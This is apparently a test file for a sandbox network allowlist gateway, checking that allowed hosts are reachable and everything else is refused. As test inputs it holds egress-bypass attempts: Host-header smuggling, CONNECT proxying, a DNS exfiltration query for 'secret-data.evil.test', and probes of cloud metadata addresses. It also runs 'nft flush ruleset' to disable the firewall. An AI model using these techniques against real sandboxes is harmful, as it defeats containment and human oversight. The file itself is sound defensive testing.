import { describe, expect } from 'vitest'
import type { SandboxHandle } from '../../../server/domain/sandbox-handle.ts'
import { allowing, it as base, curl, ENDED, greeting } from '../../fixtures/allowlist.ts'
import { reach } from '../../parts/network/reach.ts'
import { until } from '../parts.ts'

const test = base.extend('sandbox', { scope: 'file' }, ({ open, internet: { ports, address } }) =>
  open(
    allowing(
      'allowed.test',
      '*.below.test',
      `one-port.test:${ports.http}`,
      'unknown.test',
      'private.test',
      `private-port.test:${ports.tcp}`,
      `${address}:${ports.tcp}`,
    ),
  ),
)

const python = async (sandbox: SandboxHandle, script: string) =>
  (await sandbox.exec({ argv: ['python3', '-c', script], timeoutMs: 40_000 })).stdout.trim()

describe('a name of the list is reached', () => {
  test('over HTTP and TLS, at every port', async ({ sandbox, internet: { ports } }) => {
    expect(await curl(sandbox, `http://allowed.test:${ports.http}/`)).toBe(greeting('allowed.test', ports.http))
    expect(await curl(sandbox, `https://allowed.test:${ports.https}/`)).toBe(greeting('allowed.test', ports.https))
  })

  test('in capital letters, and with a dot at its end', async ({ sandbox, internet: { ports } }) => {
    expect(await curl(sandbox, `http://ALLOWED.test.:${ports.http}/`)).toContain('hello')
    expect(await curl(sandbox, `https://Allowed.TEST:${ports.https}/`)).toContain('hello')
  })

  test('below a wildcard, however deep, and not the name itself', async ({ sandbox, internet: { ports } }) => {
    const at = (name: string) => curl(sandbox, `https://${name}:${ports.https}/`)
    expect(await at('a.below.test')).toContain('hello')
    expect(await at('b.a.below.test')).toContain('hello')
    expect(await at('below.test')).toEqual(ENDED)
  })

  test('at its one port where one is named', async ({ sandbox, internet: { ports } }) => {
    expect(await curl(sandbox, `http://one-port.test:${ports.http}/`)).toContain('hello')
    expect(await curl(sandbox, `https://one-port.test:${ports.https}/`)).toEqual(ENDED)
  })

  test('by its address at the port of the list, with whatever protocol', async ({ sandbox, internet }) => {
    expect(await reach(sandbox, 'tcp', internet.address, internet.ports.tcp)).toBe('open')
  })

  test('by 500 connections at once', async ({ sandbox, internet: { ports } }) => {
    const script = `
import asyncio
async def one():
    reader, writer = await asyncio.open_connection('allowed.test', ${ports.http})
    writer.write(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')
    return b'hello' in await asyncio.wait_for(reader.readuntil(b'hello'), 20)
async def main():
    return sum(await asyncio.gather(*[one() for _ in range(500)]))
print(asyncio.run(main()))`
    expect(await python(sandbox, script)).toBe('500')
  })
})

describe('no other name is reached', () => {
  test.for([
    'other.test',
    'allowed.test.other.test',
    'notallowed.test',
    'xbelow.test',
    'below.test.evil.test',
    'one-port.test.evil.test',
  ])('%s', async (name, { sandbox, internet: { ports, asked } }) => {
    asked.length = 0
    const said = `The network policy of this sandbox refuses ${name}:${ports.http}.`
    expect(await curl(sandbox, `http://${name}:${ports.http}/`)).toBe(said)
    expect(await curl(sandbox, `https://${name}:${ports.https}/`)).toEqual(ENDED)
    expect(asked).toEqual([])
  })

  test('by a request that follows an allowed one on the same connection', async ({ sandbox, internet }) => {
    internet.asked.length = 0
    const script = `
import socket
s = socket.create_connection(('allowed.test', ${internet.ports.http}))
s.settimeout(5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); first = s.recv(4096)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'); second = s.recv(4096)
print(b'hello' in first, b'403' in second)`
    expect(await python(sandbox, script)).toBe('True True')
    expect(internet.asked).toEqual(['allowed.test'])
  })

  test.for<[string, string]>([
    ['two hosts', 'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: other.test\\r\\n\\r\\n'],
    ['another host in its address', 'GET http://other.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'],
    ['no host', 'GET / HTTP/1.0\\r\\n\\r\\n'],
    ['the separator of the list', 'GET / HTTP/1.1\\r\\nHost: other.test|allowed.test\\r\\n\\r\\n'],
    ['a way through a proxy', 'CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n'],
    ['another version of HTTP', 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'],
  ])('by a request with %s', async ([, request], { sandbox, internet }) => {
    internet.asked.length = 0
    const script = `
import socket
s = socket.create_connection(('allowed.test', ${internet.ports.http}))
s.settimeout(5)
s.sendall(b'${request}')
try: said = s.recv(4096)
except OSError: said = b''
print('hello from other' in said.decode('latin1'))`
    expect(await python(sandbox, script)).toBe('False')
    expect(internet.asked.filter(host => host.includes('other'))).toEqual([])
  })

  test('by TLS without a server name, or with an address', async ({ sandbox, internet: { ports, address, asked } }) => {
    asked.length = 0
    expect(await curl(sandbox, `https://${address}:${ports.https}/`)).toEqual(ENDED)
    expect(asked).toEqual([])
  })

  test('by the address of an allowed name: what counts is the name', async ({ sandbox, internet }) => {
    const { ports, address } = internet
    const resolve = (name: string) => ['--resolve', `${name}:${ports.https}:${address}`]
    expect(await curl(sandbox, ...resolve('other.test'), `https://other.test:${ports.https}/`)).toEqual(ENDED)
    expect(await curl(sandbox, ...resolve('allowed.test'), `https://allowed.test:${ports.https}/`)).toContain('hello')
  })
})

describe('nothing leaves', () => {
  test('in questions to nameservers, whichever is asked', async ({ sandbox, internet }) => {
    internet.questions.length = 0
    const script = `
import socket, struct
def ask(server, kind, tcp):
    name = b''.join(bytes([len(p)]) + p for p in (b'secret-data', b'evil', b'test')) + b'\\0'
    question = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((server, 53))
    s.send((struct.pack('>H', len(question)) if tcp else b'') + question)
    reply = s.recv(2000)[2 if tcp else 0:]
    return reply[3] & 15, struct.unpack('>H', reply[6:8])[0]
print([ask(server, kind, tcp) for server in ('${internet.address}', '1.1.1.1') for kind in (1, 28, 16, 65) for tcp in (False, True)])`
    const answer = '(0, 1), (0, 1), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0)'
    expect(await python(sandbox, script)).toBe(`[${answer}, ${answer}]`)
    expect(internet.questions).toEqual([])
  })

  test('over UDP, ICMP, IPv6, or any port of an address', async ({ sandbox, internet }) => {
    const { address, ports } = internet
    expect(await reach(sandbox, 'udp', address, ports.http)).toBe('refused')
    expect(await reach(sandbox, 'udp', address, 443)).toBe('refused')
    expect(await reach(sandbox, 'tcp', '2a0f:a7e1:1e7::7', ports.http)).toBe('refused')
    const script = `
import socket
s = socket.create_connection(('11.213.213.9', 22)); s.settimeout(10); s.sendall(b'SSH-2.0-x\\r\\n')
try: print(s.recv(100))
except OSError as error: print(type(error).__name__)`
    expect(['', "b''", 'ConnectionResetError']).toContain(await python(sandbox, script))
  })

  test.for(['169.254.169.254', '10.1.2.3', '172.17.0.1', 'host.docker.internal'])(
    'to %s',
    async (host, { sandbox }) => {
      expect(await curl(sandbox, '-m', '5', `http://${host}/`)).toMatch(/^(curl \d+|The network policy)/)
    },
  )

  test('to a name of the list whose address is private', async ({ sandbox, internet: { ports } }) => {
    expect(await curl(sandbox, `http://private.test:${ports.http}/`)).toContain('503')
    expect(await curl(sandbox, `http://unknown.test:${ports.http}/`)).toBe('unknown.test was not found.')
    expect(await reach(sandbox, 'tcp', 'private-port.test', ports.tcp)).not.toBe('open')
    expect(await reach(sandbox, 'tcp', '10.9.8.7', ports.tcp)).not.toBe('open')
  })

  test('to the programs of the gateway', async ({ sandbox }) => {
    const own = await python(sandbox, "import socket; print(socket.gethostbyname('x.test'))")
    expect(await reach(sandbox, 'udp', own, 53_000)).toBe('refused')
    expect(await curl(sandbox, `http://${own}:3129/`)).toContain('The network policy')
  })

  test('by changing the rules', async ({ sandbox, internet: { ports } }) => {
    const changed = await sandbox.exec({ argv: ['nft', 'flush', 'ruleset'] })
    expect(changed.exitCode).not.toBe(0)
    expect(await curl(sandbox, `https://other.test:${ports.https}/`)).toEqual(ENDED)
  })
})

test('what was tried is listed, the newest first, with what became of it', async ({ parts, sandbox, internet }) => {
  const { ports } = internet
  await curl(sandbox, `http://told.test:${ports.http}/`)
  await curl(sandbox, `https://told.test:${ports.https}/`)
  await curl(sandbox, `https://allowed.test:${ports.https}/`)
  await curl(sandbox, `http://unknown.test:${ports.http}/`)
  await python(
    sandbox,
    "import socket; s = socket.create_connection(('ssh.test', 22)); s.sendall(b'SSH-2.0-x\\r\\n'); s.recv(9)",
  )
  const tried = await until(parts.bus, async () => {
    const { attempts } = await parts.sandboxes.network.of(sandbox.id)
    return attempts.some(each => each.host === 'ssh.test') ? attempts : undefined
  })
  const found = (host: string, port: number) => tried.find(each => each.host === host && each.port === port)?.verdict
  expect(found('told.test', ports.http)).toBe('refused')
  expect(found('told.test', ports.https)).toBe('refused')
  expect(found('allowed.test', ports.https)).toBe('allowed')
  expect(found('unknown.test', ports.http)).toBe('failed')
  expect(found('ssh.test', 22)).toBe('refused')
  expect(tried.map(({ last_at }) => last_at)).toEqual(
    tried
      .map(({ last_at }) => last_at)
      .sort()
      .reverse(),
  )
  const refused = await parts.sandboxes.network.refusedSince(sandbox.id, tried.at(-1)?.first_at ?? '')
  expect(refused).toContainEqual(expect.objectContaining({ host: 'ssh.test', port: 22, reason: 'policy' }))
})
